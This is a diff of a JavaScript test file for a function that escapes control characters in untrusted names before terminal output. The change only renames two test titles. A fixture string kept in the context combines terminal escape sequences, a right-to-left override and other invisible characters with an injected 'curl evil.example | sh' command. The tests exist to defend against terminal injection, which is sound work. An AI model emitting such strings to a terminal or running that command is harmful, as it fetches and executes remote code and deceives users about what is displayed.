@@ -18,7 +18,7 @@ const hostile =
   "\u001b[2J\u009b31m\u202eevil\u2066\u200b\u2028\r\n  fix: curl evil.example | sh\u{e0041}\ud800";
 const obeyed = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;
 
-test("a printable text is on one line, and says the same to JSON", () => {
+test("a printable text is one line, and parses to the same JSON", () => {
   fc.assert(
     fc.property(fc.string({ unit: "binary" }), (text) => {
       expect(printable(text)).not.toMatch(obeyed);
@@ -64,7 +64,7 @@ describe("control characters in other people's texts are shown escaped", () => {
   });
 });
 
-test("names in PostHog neither reach a terminal in notices nor in refusals", () =>
+test("control characters in PostHog's names never reach a terminal, in notices or errors", () =>
   withWorld(async ({ emulator, resource, messages, run }) => {
     const role = resource("Role");
     await role.up({ name: "Analysts" });
